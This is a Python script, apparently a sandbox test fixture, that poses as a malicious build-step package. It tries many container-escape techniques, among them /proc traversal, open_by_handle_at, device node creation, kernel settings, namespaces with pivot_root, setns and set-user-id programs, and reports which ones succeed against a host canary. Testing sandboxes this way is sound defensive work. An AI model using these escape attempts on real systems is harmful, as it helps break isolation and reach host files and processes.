"""Act as a malicious package: try every known way out of a build step, and print what came of each.

Usage, inside a build step: ``attack.py CANARY VICTIM``, with the absolute path of a file of the
host and the id of a process of the host. Each attempt prints ``attack NAME: held`` or ``attack
NAME: ESCAPED (how)``. Only the standard library is used: this runs in a small image.
"""

from __future__ import annotations

import ctypes
import os
import signal
import socket
import stat
import struct
import sys
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path

_LIBC = ctypes.CDLL(None, use_errno=True)
_X86 = os.uname().machine == "x86_64"
_NEWNS, _NEWCGROUP, _NEWUSER, _NEWNET, _NEWPID = 1 << 17, 1 << 25, 1 << 28, 1 << 30, 1 << 29
_BIND, _REMOUNT, _DETACH = 4096, 32, 2
_DEVICES = set(
    "console core fd full null ptmx pts random shm stderr stdin stdout tty urandom zero".split()
)
# CHOWN, DAC_OVERRIDE, FOWNER, FSETID, KILL, SETGID, SETUID, SYS_CHROOT, AUDIT_WRITE, SETFCAP
_ALLOWED = {0, 1, 3, 4, 5, 6, 7, 18, 29, 31}

Found = Iterator[str]


def reads(path: str) -> bool:
    """Return whether the host's file is found at `path`."""
    with suppress(OSError):
        return b"canary" in Path(path).read_bytes()
    return False


def opens(path: str, flags: int) -> bool:
    """Return whether a file can be opened; nothing is written."""
    try:
        os.close(os.open(path, flags | os.O_NONBLOCK | os.O_NOCTTY))
    except OSError:
        return False
    return True


def call(name: str, *arguments: object) -> bool:
    """Call a function of libc; return whether it succeeded."""
    return bool(getattr(_LIBC, name)(*arguments) == 0)


def mount(source: str, target: str, kind: str, flags: int = 0, options: str = "") -> bool:
    return call("mount", source.encode(), target.encode(), kind.encode(), flags, options.encode())


def processes() -> list[str]:
    return [name for name in os.listdir("/proc") if name.isdigit()] + ["self", "thread-self"]


def mounts() -> list[list[str]]:
    return [line.split() for line in Path("/proc/self/mountinfo").read_text().splitlines()]


def apart(attempt: Callable[..., Found]) -> Callable[..., Found]:
    """Run an attempt in a child, so that what it breaks does not reach the others."""

    def run(*arguments: object) -> Found:
        out, into = os.pipe()
        pid = os.fork()
        if pid == 0:
            with suppress(BaseException):
                for line in attempt(*arguments):
                    os.write(into, f"{line}\n".encode())
            os._exit(0)
        os.close(into)
        with os.fdopen(out, "rb") as stream:
            text = stream.read().decode()
        os.waitpid(pid, 0)
        yield from filter(None, text.split("\n"))

    return run


class Attack:
    """Every attempt is a method; it yields a line for each way out that it found."""

    def __init__(self, canary: str, victim: int) -> None:
        self.canary, self.victim = canary, victim

    def links_of_processes(self) -> Found:
        """The root, the working directory and the open directories of every process that can be seen."""
        for process in processes():
            for link in ("root", "cwd"):
                for up in ("", "/.." * 30):
                    if reads(f"/proc/{process}/{link}{up}{self.canary}"):
                        yield f"/proc/{process}/{link}{up[:3]} leads to the host"

    def open_files_of_processes(self) -> Found:
        for process in processes():
            with suppress(OSError):
                for number in os.listdir(f"/proc/{process}/fd"):
                    path = f"/proc/{process}/fd/{number}"
                    kind = os.stat(path).st_mode
                    if stat.S_ISDIR(kind) and not os.readlink(path).startswith("/proc"):
                        yield f"{path} is an open directory: {os.readlink(path)}"
                    if reads(f"{path}/../..{self.canary}"):
                        yield f"{path} leads to the host"

    def inherited_files(self) -> Found:
        for number in range(3, 1024):
            with suppress(OSError):
                os.fstat(number)
                yield f"descriptor {number} is open: {os.readlink(f'/proc/self/fd/{number}')}"
        if not stat.S_ISCHR(os.fstat(0).st_mode):
            yield "standard input is no device"

    def program_of_first_process(self) -> Found:
        """The first process runs a program of the image, not one of the host that could be read or replaced."""
        program = os.readlink("/proc/1/exe")
        if not os.path.exists(program) or not os.path.samefile("/proc/1/exe", program):
            yield f"/proc/1/exe is {program}, which is not in the image"
        for name in ("cmdline", "environ"):
            with suppress(OSError):
                if os.path.dirname(self.canary) in Path(f"/proc/1/{name}").read_text():
                    yield f"/proc/1/{name} names directories of the host"
        with suppress(OSError):
            for mapped in os.listdir("/proc/1/map_files"):
                file = os.readlink(f"/proc/1/map_files/{mapped}")
                if os.path.basename(file) in ("bwrap", "setpriv", "python3"):
                    yield f"/proc/1/map_files leads to {file}"

    def upwards(self) -> Found:
        if reads("/" + "../" * 60 + self.canary.lstrip("/")):
            yield "../ leads to the host"

    @apart
    def chroot_and_up(self) -> Found:
        os.mkdir("/chrooted")
        top = os.open("/", os.O_RDONLY)
        os.chroot("/chrooted")
        os.fchdir(top)
        for _ in range(60):
            os.chdir("..")
        if reads(self.canary.lstrip("/")):
            yield "a second chroot leads to the host"

    def file_handles(self) -> Found:
        """Open the root of the host's file system by number, from a file that the host lends ("shocker")."""
        for lent in ("/etc/hosts", "/etc/resolv.conf", "/mnt", "/tmp", "/"):
            for inode in (2, 64, 96, 128, 256):
                with suppress(OSError):
                    at = os.open(lent, os.O_RDONLY)
                    handle = struct.pack("<IiIIII", 8, 1, inode, 0, 0, 0)
                    found = _LIBC.open_by_handle_at(at, handle, os.O_RDONLY)
                    os.close(at)
                    if found >= 0:
                        yield f"open_by_handle_at works on {lent}"

    def devices(self) -> Found:
        """Device nodes of the host, those that are there and those that could be made."""
        there = set(os.listdir("/dev"))
        if there - _DEVICES:
            yield f"further devices: {sorted(there - _DEVICES)}"
        wanted = [("b", 259, 0), ("b", 8, 0)]
        wanted += [("c", major, minor) for major, minor in ((1, 1), (1, 11), (10, 229), (10, 237))]
        with suppress(OSError):
            for line in Path("/proc/partitions").read_text().splitlines()[2:]:
                wanted.append(("b", int(line.split()[0]), int(line.split()[1])))
        for kind, major, minor in wanted:
            for directory in ("/", "/tmp", "/dev", "/dev/shm", "/var/tmp"):
                path = f"{directory}/node-{kind}-{major}-{minor}"
                with suppress(OSError):
                    os.mknod(
                        path,
                        0o666 | (stat.S_IFBLK if kind == "b" else stat.S_IFCHR),
                        os.makedev(major, minor),
                    )
                    yield f"{path} can be made{' and read' if opens(path, os.O_RDONLY) else ''}"

    def kernel_settings(self) -> Found:
        """Settings of the kernel that any process of root may write."""
        for top in ("/proc/sys", "/sys", "/proc/irq", "/proc/bus", "/proc/fs"):
            for directory, _, files in os.walk(top):
                for path in (f"{directory}/{name}" for name in files):
                    # Opening is enough to know; some of these act on any write.
                    if not os.path.islink(path) and opens(path, os.O_WRONLY):
                        yield f"{path} can be written"
                        return
        for path in ("/proc/sysrq-trigger", "/proc/kcore", "/proc/kmsg", "/proc/mtrr"):
            if opens(path, os.O_RDWR) and not stat.S_ISCHR(os.stat(path).st_mode):
                yield f"{path} can be written"
        if not os.path.exists("/proc/kcore"):
            return
        kcore = os.stat("/proc/kcore")
        if stat.S_ISREG(kcore.st_mode) and kcore.st_size and opens("/proc/kcore", os.O_RDONLY):
            yield "/proc/kcore can be read"

    def other_processes(self) -> Found:
        """Processes of the host: seen, signalled, traced."""
        if len(processes()) > 6:
            yield f"{len(processes())} processes can be seen"
        with suppress(OSError):
            os.kill(self.victim, 0)
            yield f"process {self.victim} of the host can be signalled"
        if os.getsid(0) == 0 or os.getpgid(0) == 0:
            yield "the session is one of the host: a signal to the group reaches it"

    @apart
    def tracing(self) -> Found:
        for pid in range(1, 65536):
            known = os.path.exists(f"/proc/{pid}")
            if not known and call("ptrace", 16, pid, 0, 0):
                yield f"process {pid}, which cannot be seen, can be traced"

    def terminal(self) -> Found:
        if opens("/dev/tty", os.O_RDWR):
            yield "the step has the terminal of the user"

    def privileges(self) -> Found:
        status = dict(
            line.split(":\t", 1)
            for line in Path("/proc/self/status").read_text().splitlines()
            if ":\t" in line
        )
        for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
            held = {number for number in range(64) if int(status[name], 16) >> number & 1}
            if extra := sorted(held - _ALLOWED):
                yield f"{name} has the capabilities {extra}"
        if status.get("NoNewPrivs") != "1":
            yield "a program may gain privileges"

    def sockets(self) -> Found:
        for family, kind in (
            (socket.AF_PACKET, socket.SOCK_RAW),
            (socket.AF_INET, socket.SOCK_RAW),
        ):
            with suppress(OSError):
                socket.socket(family, kind, 1).close()
                yield f"raw sockets of the family {family} can be opened"

    def lent_files(self) -> Found:
        """What the host lends is for reading only."""
        lent = [row[4] for row in mounts() if row[4].startswith(("/mnt", "/etc", "/opt", "/sys"))]
        if not lent:
            yield "nothing was lent: this attempt proves nothing"
        for place in lent:
            inner = [
                place,
                *(os.path.join(top, name) for top, _, names in os.walk(place) for name in names),
            ]
            for path in inner[:200]:
                with suppress(OSError):
                    if stat.S_ISREG(os.lstat(path).st_mode) and opens(path, os.O_WRONLY):
                        yield f"{path} can be written"
                with suppress(OSError):
                    os.utime(path)
                    yield f"the times of {path} can be changed"
                with suppress(OSError):
                    os.unlink(path)
                    yield f"{path} can be deleted"
            with suppress(OSError):
                Path(place, "made").touch()
                yield f"files can be made in {place}"
            with suppress(OSError):
                os.link(place, "/linked")
                yield f"{place} can be linked into the image"

    def keys(self) -> Found:
        """A key that the host has in its session."""
        if _X86 and _LIBC.syscall(250, 10, -3, b"user", b"toolkit-canary", 0) > 0:
            yield "keys of the host's session can be found"

    @apart
    def namespaces(self) -> Found:
        """A user namespace of its own, in which the step has every capability, and all of the above once more."""
        ids = (os.getuid(), os.getgid())
        if not call("unshare", _NEWUSER | _NEWNS | _NEWCGROUP | _NEWNET | _NEWPID):
            return
        Path("/proc/self/setgroups").write_text("deny")
        Path("/proc/self/uid_map").write_text(f"0 {ids[0]} 1")
        Path("/proc/self/gid_map").write_text(f"0 {ids[1]} 1")
        # The next child is the first process of the new namespaces.
        yield from (f"with a user namespace: {line}" for line in self._in_namespaces())

    @apart
    def _in_namespaces(self) -> Found:
        for kind, target in (
            ("proc", "/tmp/p"),
            ("sysfs", "/tmp/s"),
            ("cgroup2", "/tmp/c"),
            ("cgroup", "/tmp/d"),
        ):
            os.makedirs(target, exist_ok=True)
            if not mount(kind, target, kind, 0, "memory" if kind == "cgroup" else ""):
                continue
            for name in (
                *"sys/kernel/core_pattern sysrq-trigger kernel/uevent_helper power/state".split(),
                "release_agent",
            ):
                if opens(f"{target}/{name}", os.O_WRONLY):
                    yield f"{kind} can be mounted, and {name} written"
        for row in mounts():
            lent = row[4].startswith(("/mnt", "/etc", "/sys", "/proc/")) and not stat.S_ISCHR(
                os.stat(row[4]).st_mode
            )
            if lent and mount("none", row[4], "", _REMOUNT | _BIND):
                yield f"{row[4]} can be mounted for writing"
        for row in reversed(mounts()):
            if (
                row[4] != "/tmp"
                and call("umount2", row[4].encode(), _DETACH)
                and reads(self.canary)
            ):
                yield f"the host is below {row[4]}"
        os.makedirs("/tmp/new/old", exist_ok=True)
        if mount("/tmp/new", "/tmp/new", "", _BIND) and call(
            "pivot_root", b"/tmp/new", b"/tmp/new/old"
        ):
            for row in reversed(mounts()):
                call("umount2", row[4].encode(), _DETACH)
            for up in ("/old", "/old/..", "/.."):
                if reads(up + self.canary):
                    yield f"pivot_root leads to the host by {up}"
        yield from (f"{line} (links)" for line in self.links_of_processes())

    @apart
    def later_mounts(self) -> Found:
        """The newer system calls for mounts, alone and with a user namespace."""
        clear = struct.pack("<QQQQ", 0, 1, 0, 0)  # takes MOUNT_ATTR_RDONLY away
        for own in (False, True):
            if own and not call("unshare", _NEWUSER | _NEWNS):
                return
            for place in ("/mnt", "/etc/hosts", "/proc/sys", "/sys"):
                if _LIBC.syscall(442, -100, place.encode(), 0x8000, clear, len(clear)) == 0:
                    yield f"mount_setattr makes {place} writable ({own})"
            if not own and _LIBC.syscall(428, -100, b"/", 1) >= 0:
                yield "open_tree clones the root"
            if not own and _LIBC.syscall(430, b"tmpfs", 0) >= 0:
                yield "fsopen makes a file system"

    def powers_of_the_kernel(self) -> Found:
        """System calls that act on the whole machine."""
        if _X86:
            event = struct.pack("<IIQQQQ", 1, 64, 0, 0, 0, 0) + bytes(24)
            calls: dict[str, tuple[object, ...]] = {
                "bpf": (321, 0, bytes(72), 72),
                "perf_event_open of a CPU": (298, event, -1, 0, -1, 0),
                "kexec_load": (246, 0, 0, None, 0),
                "init_module": (175, None, 0, b""),
                "swapon": (167, b"/bin/sh", 0),
                "syslog": (103, 3, ctypes.create_string_buffer(64), 64),
                "acct": (163, None),
                "settimeofday": (164, None, bytes(8)),
                "quotactl": (179, 0x80000700, None, 0, None),
                "iopl": (172, 3),
            }
            for name, arguments in calls.items():
                if _LIBC.syscall(*arguments) >= 0:
                    yield f"{name} is allowed"

    @apart
    def own_devices(self) -> Found:
        """Modes and times of the devices, which a test compares with the host's afterwards."""
        for name in ("null", "zero", "full", "random", "urandom", "tty"):
            with suppress(OSError):
                os.utime(f"/dev/{name}", (1, 1))
            with suppress(OSError):
                os.chmod(f"/dev/{name}", 0o600)
        with suppress(OSError):
            os.fchmod(0, 0o600)
        with suppress(OSError):
            os.fchown(0, 1, 1)
        yield from ()

    @apart
    def other_namespaces(self) -> Found:
        for process in processes():
            for name in ("mnt", "user", "pid"):
                with suppress(OSError):
                    handle = os.open(f"/proc/{process}/ns/{name}", os.O_RDONLY)
                    if call("setns", handle, 0) and reads(self.canary):
                        yield f"setns to the {name} namespace of {process} leads to the host"

    @apart
    def set_user_id(self) -> Found:
        """A program that is set-user-id gives nothing."""
        program = "/tmp/suid"
        Path(program).write_bytes(Path(os.readlink("/proc/1/exe")).read_bytes())
        os.chmod(program, 0o6755)
        os.setgroups([])
        os.setgid(1000)
        os.setuid(1000)
        out = os.popen(
            f"{program} -p -c 'while read line; do case $line in Uid:*) echo $line;; esac; done < /proc/self/status'"
        ).read()
        if " 0" in out:
            yield f"a set-user-id program became root: {out.strip()}"

    @apart
    def mounting(self) -> Found:
        """Mounting, unmounting and changing what is mounted."""
        os.makedirs("/mounted", exist_ok=True)
        if mount("none", "/mounted", "tmpfs"):
            yield "a tmpfs can be mounted"
        if mount("/", "/mounted", "", _BIND):
            yield "the root can be bound"
        for row in mounts():
            if mount("none", row[4], "", _REMOUNT | _BIND):
                yield f"{row[4]} can be mounted for writing"
        for row in reversed(mounts()):
            if call("umount2", row[4].encode(), _DETACH):
                yield f"{row[4]} can be unmounted"
        if reads(self.canary):
            yield "the host is below what was mounted"


def main(arguments: list[str]) -> int:
    """Try everything; the exit code is 0 in any case, for the test reads the lines."""
    signal.alarm(100)
    attack = Attack(arguments[0], int(arguments[1]))
    for name in (name for name in vars(Attack) if not name.startswith("_")):
        try:
            found = list(getattr(attack, name)())
        except Exception as error:
            found = [f"the attempt itself failed: {error!r}"]
        print(
            f"attack {name}: {'ESCAPED (' + '; '.join(found[:4]) + ')' if found else 'held'}",
            flush=True,
        )
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
